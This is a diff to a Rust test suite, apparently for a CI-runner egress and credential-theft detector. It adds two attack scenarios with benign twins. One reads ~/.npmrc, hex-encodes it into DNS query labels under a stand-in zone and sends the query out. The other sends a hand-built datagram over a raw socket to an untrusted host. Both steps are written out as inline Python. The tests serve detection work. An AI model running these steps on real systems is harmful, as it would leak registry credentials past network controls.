@@ -386,7 +386,48 @@ echo 'app()' > \"$GITHUB_WORKSPACE/dist/index.js\"
                 &[("build", &dns_exchange(false))],
             ),
         },
+        Scenario {
+            name: "dns-question-exfiltration",
+            threat: "data leaving in a DNS question that no one answers or reads: ~/.npmrc hex-encoded into the labels of a name under an attacker's zone, sent with sendto and never read",
+            needs: &["python3"],
+            kills_agent: false,
+            responses: false,
+            expect: &["credential-read .npmrc", "dns-exfiltration"],
+            attack: job(
+                "a step sends 127.0.0.1:53 a question for <~/.npmrc in hex>.exfil.selftest.invalid and closes the socket",
+                &[("build", &dns_question("open(os.path.expanduser('~/.npmrc'), 'rb').read()[:60].hex()", "exfil.selftest.invalid"))],
+            ),
+            twin: job(
+                "a step sends 127.0.0.1:53 a question for registry.npmjs.org and closes the socket",
+                &[("build", &dns_question("'registry'", "npmjs.org"))],
+            ),
+        },
+        Scenario {
+            name: "raw-socket-egress",
+            threat: "a packet built by hand on a raw socket, which no address rule sees as a connection",
+            needs: &["python3"],
+            kills_agent: false,
+            responses: false,
+            expect: &["raw-socket"],
+            attack: job(
+                "a step opens a raw UDP socket and sends a datagram it built to the untrusted host",
+                &[("build", "python3 -c \"import os, socket, struct, urllib.parse\np = urllib.parse.urlparse(os.environ['UNTRUSTED'])\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)\ns.sendto(struct.pack('>HHHH', 40000, p.port, 12, 0) + b'raw!', (p.hostname, 0))\"\n")],
+            ),
+            twin: job(
+                "a step sends the same bytes in an ordinary UDP datagram to the allowed registry host",
+                &[("build", &udp_send("REGISTRY", "b'raw!'"))],
+            ),
+        },
     ]
+}
+
+/// A step that sends 127.0.0.1:53 one DNS question for `<label>.<zone>` (`label`: a Python
+/// expression giving text, cut into 60-character labels) with sendto and closes the socket
+/// without reading an answer.
+fn dns_question(label: &str, zone: &str) -> String {
+    format!(
+        "python3 -c \"import os, socket, struct\nt = {label}\nname = '.'.join([t[i:i + 60] for i in range(0, len(t), 60)] + ['{zone}'])\nq = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(struct.pack('>HHHHHH', 0x6464, 0x0100, 1, 0, 0, 0) + q + struct.pack('>HH', 1, 1), ('127.0.0.1', 53))\"\n"
+    )
 }
 
 /// A step whose socket first receives a datagram from a second socket of the same process (a
